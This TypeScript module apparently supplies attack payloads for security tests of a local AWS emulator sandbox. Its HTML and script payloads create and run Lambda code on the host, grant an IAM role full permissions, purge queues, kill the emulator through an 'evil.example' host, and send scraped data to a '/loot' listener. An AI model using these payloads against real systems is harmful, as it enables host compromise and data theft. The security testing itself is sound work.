import { randomUUID } from 'node:crypto';
import { strToU8, zipSync } from 'fflate';
import {
  accountId,
  bucket,
  endpoint,
  port,
  queueUrl,
  region,
  roleArn,
  roleName,
  table,
} from './sandbox.ts';

// None of it is secret, and the signature is invented.
const signature = {
  'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
  'X-Amz-Date': '20260101T000000Z',
  'X-Amz-SignedHeaders': 'host',
  'X-Amz-Expires': '604800',
  'X-Amz-Signature': '0'.repeat(64),
};

const credential = (service: string) =>
  `${accountId}/20260101/${region}/${service}/aws4_request`;

function signedUrl(
  address: string,
  service: string,
  parameters: Record<string, string>,
): string {
  const query = new URLSearchParams({
    ...parameters,
    ...signature,
    'X-Amz-Credential': credential(service),
  });
  return `${address}?${query}`;
}

export const purgeQueue = `${queueUrl}?Action=PurgeQueue`;
export const sendMessage = `${queueUrl}?Action=SendMessage&MessageBody=text`;
export const rewritePolicy = signedUrl(`${endpoint}/`, 'iam', {
  Action: 'PutRolePolicy',
  Version: '2010-05-08',
  RoleName: roleName,
  PolicyName: roleName,
  PolicyDocument: JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
  }),
});

/** Sends no referrer. */
export const image = (url: string) =>
  `<img src="${url.replaceAll('&', '&amp;')}" referrerpolicy="no-referrer">`;

/** Reports the user that it runs as: on the host engine, the developer. */
const code = `
  import { execSync } from 'node:child_process';
  export const handler = async () => execSync('id').toString();
`;

/** The body of CreateFunction; another name for each attack. */
const functionRequest = (FunctionName: string, rest = {}) =>
  JSON.stringify({
    FunctionName,
    Role: roleArn,
    Runtime: 'nodejs22.x',
    Handler: 'index.handler',
    Code: {
      ZipFile: Buffer.from(zipSync({ 'index.mjs': strToU8(code) })).toString(
        'base64',
      ),
    },
    ...rest,
  });

const newName = () => `stolen-${randomUUID()}`;

const bringHome = (attackerPort: number) => `
  const bringHome = (text) => fetch('http://localhost:${attackerPort}/loot', {
    method: 'POST', mode: 'no-cors', body: String(text),
  });
`;

/** Creates a function and invokes it until it responds. */
export const createFunction = (attackerPort: number, name = newName()) => `
<script type="module">
  ${bringHome(attackerPort)}
  const functions = '${endpoint.replace('127.0.0.1', 'localhost')}/2015-03-31/functions';
  const headers = {
    authorization: 'AWS4-HMAC-SHA256 Credential=${credential('lambda')}, '
      + 'SignedHeaders=host, Signature=0',
  };
  const post = (url, body) => fetch(url, { method: 'POST', headers, body });
  const created = await post(functions, ${JSON.stringify(functionRequest(name))});
  if (created.ok) {
    await bringHome('created ' + await created.text());
    let response;
    for (let attempt = 0; attempt < 20 && !response?.ok; attempt += 1) {
      await new Promise((resolve) => setTimeout(resolve, 200));
      response = await post(functions + '/${name}/invocations', '{}');
    }
    await bringHome('ran as ' + await response.text());
  }
</script>`;

/** S3 accepts forms from any page, and redirects the browser to a given URL. */
export function formUpload(attackerPort: number): string {
  const local = endpoint.replace('127.0.0.1', 'localhost');
  const fields = {
    ...signature,
    'X-Amz-Credential': credential('s3'),
    key: 'page.html',
    Policy: Buffer.from('{}').toString('base64'),
    'Content-Type': 'text/html',
    success_action_redirect: signedUrl(
      `${local}/${bucket}/page.html`,
      's3',
      {},
    ),
  };
  const inputs = Object.entries(fields).map(
    ([name, value]) =>
      `<input name="${name}" value="${value.replaceAll('&', '&amp;')}">`,
  );
  return `
<form action="${endpoint}/${bucket}" method="post" enctype="multipart/form-data">
  ${inputs.join('\n')}
  <input type="file" name="file">
</form>
<script>
  const files = new DataTransfer();
  const html = ${JSON.stringify(createFunction(attackerPort)).replaceAll('</', '<\\/')};
  files.items.add(new File([html], 'page.html', { type: 'text/html' }));
  document.querySelector('[type=file]').files = files.files;
  document.forms[0].submit();
</script>`;
}

/** A request that a browser sends without a preflight: no custom header. */
export const fetchWithoutCors = () => `
<script>
  const post = (url, body) =>
    fetch(url, { method: 'POST', mode: 'no-cors', body });
  post('${endpoint}/2015-03-31/functions', ${JSON.stringify(functionRequest(newName()))});
  post('${queueUrl}', new URLSearchParams({ Action: 'PurgeQueue' }));
  post('${signedUrl(`${endpoint}/${bucket}/planted`, 's3', { uploads: '' })}', '');
  post('${endpoint}/_localstack/init', '');
  navigator.sendBeacon('${queueUrl}', new URLSearchParams({ Action: 'PurgeQueue' }));
</script>`;

/** LocalStack treats such a host as S3, where any origin may post. */
export const killEmulator = () => `
<script>
  fetch('http://x.s3.evil.example:${port}/_localstack/health', {
    method: 'POST', mode: 'no-cors', body: '{"action":"kill"}',
  });
</script>`;

/** The name and the value of its only field, joined by \`=\`, are JSON. */
export function plainTextForm(): string {
  const name = functionRequest(newName(), { Description: '' }).slice(0, -2);
  return `
<form action="${endpoint}/2015-03-31/functions" method="post" enctype="text/plain">
  <input name="${name.replaceAll('"', '&quot;')}" value="&quot;}">
</form>
<script>document.forms[0].submit();</script>`;
}

export const sandboxedFrame = (html: string) =>
  `<iframe sandbox="allow-scripts allow-forms" srcdoc="${html
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;')}"></iframe>`;

/** For such a page the sandbox is the same origin: it can read each response. */
export const readEverything = (attackerPort: number) => `
<script type="module">
  ${bringHome(attackerPort)}
  const paths = [
    '/_localstack/info', '/_localstack/diagnose', '/_sandbox/iam/${accountId}',
    '/_aws/sqs/messages?QueueUrl=${encodeURIComponent(queueUrl)}',
    '/?Action=ListRoles&Version=2010-05-08',
    '${new URL(signedUrl(`${endpoint}/${bucket}`, 's3', {})).href.replace(endpoint, '')}',
    '${new URL(signedUrl(`${endpoint}/2015-03-31/functions`, 'lambda', {})).href.replace(endpoint, '')}',
  ];
  for (const path of paths) {
    const response = await fetch(path);
    if (response.ok) await bringHome(path + ' ' + await response.text());
  }
  const rows = await fetch('/', {
    method: 'POST',
    headers: {
      'x-amz-target': 'DynamoDB_20120810.Scan',
      'content-type': 'application/x-amz-json-1.0',
      authorization: 'AWS4-HMAC-SHA256 Credential=${credential('dynamodb')}, SignedHeaders=host, Signature=0',
    },
    body: JSON.stringify({ TableName: '${table}' }),
  });
  if (rows.ok) await bringHome('table ' + await rows.text());
</script>`;

export const webSocket = () => `
<script>
  const socket = new WebSocket('ws://127.0.0.1:${port}/');
  socket.onopen = () => { outcome = 'opened'; };
  socket.onerror = () => { outcome = 'refused'; };
</script>`;
